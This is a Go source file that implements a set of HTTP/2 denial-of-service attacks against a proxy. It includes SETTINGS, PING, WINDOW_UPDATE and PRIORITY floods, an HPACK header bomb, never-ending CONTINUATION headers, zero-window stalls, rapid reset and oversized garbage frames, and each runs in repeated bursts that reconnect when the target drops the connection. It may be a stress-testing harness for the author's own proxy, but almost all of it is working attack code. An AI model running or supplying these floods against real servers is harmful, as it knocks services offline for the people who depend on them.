package front

import (
	"bytes"
	"context"
	"encoding/binary"
	"io"
	"net"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// What strangers send in HTTP/2, as frames.

// frames is a connection of HTTP/2 that an attack writes to. What comes is thrown away, so
// that the proxy's answers do not pile up: that would be noticed.
type frames struct {
	a      *Attack
	c      net.Conn
	out    bytes.Buffer
	framer *http2.Framer
	coder  *hpack.Encoder
	block  bytes.Buffer
	stream uint32 // of the last request
}

// speak begins a connection.
func (a *Attack) speak(ctx context.Context) (*frames, error) {
	c, err := a.dial(ctx)
	if err != nil {
		return nil, err
	}
	go func() { _, _ = io.Copy(io.Discard, c) }()
	f := &frames{a: a, c: c}
	f.framer = http2.NewFramer(&f.out, nil)
	f.framer.AllowIllegalWrites = true
	f.coder = hpack.NewEncoder(&f.block)
	f.out.WriteString(http2.ClientPreface)
	_ = f.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	return f, nil
}

// send sends what was written.
func (f *frames) send() error {
	_ = f.c.SetWriteDeadline(time.Now().Add(f.a.Pause))
	_, err := f.c.Write(f.out.Bytes())
	f.out.Reset()
	return err
}

// ask begins a request.
func (f *frames) ask(method, path string, ends bool, more ...hpack.HeaderField) {
	f.header(method, path, more...)
	_ = f.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: f.next(), BlockFragment: f.block.Bytes(), EndStream: ends, EndHeaders: true})
}

// next is the next request's stream.
func (f *frames) next() uint32 {
	f.stream = max(f.stream+2, 1) | 1
	return f.stream
}

// header writes the header of a request to block.
func (f *frames) header(method, path string, more ...hpack.HeaderField) {
	f.block.Reset()
	for _, h := range append([]hpack.HeaderField{{Name: ":method", Value: method}, {Name: ":scheme", Value: "http"}, {Name: ":path", Value: path}, {Name: ":authority", Value: f.a.Target}}, more...) {
		_ = f.coder.WriteField(h)
	}
}

// flood does what to a connection after each pause, and to a new one when the proxy closed it.
func (a *Attack) flood(ctx context.Context, what func(f *frames)) error {
	f, err := a.speak(ctx)
	if err != nil {
		return err
	}
	what(f)
	if err := f.send(); err != nil {
		return err
	}
	go a.paced(ctx, func() error {
		what(f)
		if f.send() != nil {
			_ = f.c.Close()
			if next, err := a.speak(ctx); err == nil {
				f = next
			}
		}
		return ctx.Err()
	})
	return nil
}

// perBurst is how many frames a flood sends after each pause.
const perBurst = 200

func (a *Attack) settings(ctx context.Context) error {
	return a.flood(ctx, func(f *frames) {
		for range perBurst {
			_ = f.framer.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: 4096})
		}
	})
}

func (a *Attack) pings(ctx context.Context) error {
	return a.flood(ctx, func(f *frames) {
		for range perBurst {
			_ = f.framer.WritePing(false, [8]byte{})
		}
	})
}

func (a *Attack) windows(ctx context.Context) error {
	return a.flood(ctx, func(f *frames) {
		for range perBurst {
			_ = f.framer.WriteWindowUpdate(0, 1)
		}
	})
}

func (a *Attack) priorities(ctx context.Context) error {
	return a.flood(ctx, func(f *frames) {
		for n := range uint32(perBurst) {
			_ = f.framer.WritePriority(f.stream+2*n+1, http2.PriorityParam{StreamDep: f.stream + 2*n + 3, Weight: 1})
		}
	})
}

// emptyData sends nothing in a body again and again.
func (a *Attack) emptyData(ctx context.Context) error {
	return a.flood(ctx, func(f *frames) {
		if f.stream == 0 {
			f.ask("POST", "/work", false)
		}
		for range perBurst {
			_ = f.framer.WriteData(f.stream, false, nil)
		}
	})
}

// headerBomb has a long field in the proxy's table and names it a hundred times in a request:
// 100 bytes become 400 kB.
func (a *Attack) headerBomb(ctx context.Context) error {
	long := strings.Repeat("b", 3900)
	return a.flood(ctx, func(f *frames) {
		field := hpack.HeaderField{Name: "x", Value: long}
		var all []hpack.HeaderField
		for range 240 {
			all = append(all, field)
		}
		for range 5 {
			f.ask("GET", "/nothing", true, all...)
		}
	})
}

// slowHeader begins a header that never ends.
func (a *Attack) slowHeader(ctx context.Context) error {
	return a.flood(ctx, func(f *frames) {
		if f.stream == 0 {
			f.header("GET", "/nothing")
			_ = f.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: f.next(), BlockFragment: f.block.Bytes()})
		}
		_ = f.framer.WriteContinuation(f.stream, false, []byte{})
	})
}

// lastStream asks with the last stream that there is.
func (a *Attack) lastStream(ctx context.Context) error {
	return a.flood(ctx, func(f *frames) {
		f.stream = 1<<31 - 3
		f.ask("GET", "/nothing", true)
	})
}

// noWindow asks for large answers that it lets nothing of come, and gives them up a second later.
func (a *Attack) noWindow(ctx context.Context) error {
	n := 0
	return a.flood(ctx, func(f *frames) {
		if n++; n%10 == 1 {
			for id := f.stream; f.stream > 0 && id+100 > f.stream && id > 0; id -= min(id, 2) {
				_ = f.framer.WriteRSTStream(id, http2.ErrCodeCancel)
			}
			for range streams {
				f.ask("GET", "/large", true)
			}
		}
	})
}

// oneByte begins bodies with a byte that nothing follows, and gives them up a second later.
func (a *Attack) oneByte(ctx context.Context) error {
	n := 0
	return a.flood(ctx, func(f *frames) {
		if n++; n%10 == 1 {
			first := f.stream
			for id := first; first > 0 && id+2*streams > first; id -= min(id, 2) {
				_ = f.framer.WriteRSTStream(id, http2.ErrCodeCancel)
			}
			for range streams {
				f.ask("POST", "/work", false)
				_ = f.framer.WriteData(f.stream, false, []byte("x"))
			}
		}
	})
}

// rapidReset asks and gives up, twenty times at once.
func (a *Attack) rapidReset(ctx context.Context) error {
	return a.flood(ctx, func(f *frames) {
		for range 20 {
			f.ask("GET", "/work", true)
			_ = f.framer.WriteRSTStream(f.stream, http2.ErrCodeCancel)
		}
	})
}

// garbage is the frames that there are not, of the longest length.
func (a *Attack) garbage(ctx context.Context) error {
	payload := make([]byte, 16<<10)
	binary.BigEndian.PutUint64(payload, 1)
	return a.flood(ctx, func(f *frames) {
		for range perBurst / 20 {
			_ = f.framer.WriteRawFrame(0xee, 0, 0, payload)
		}
	})
}
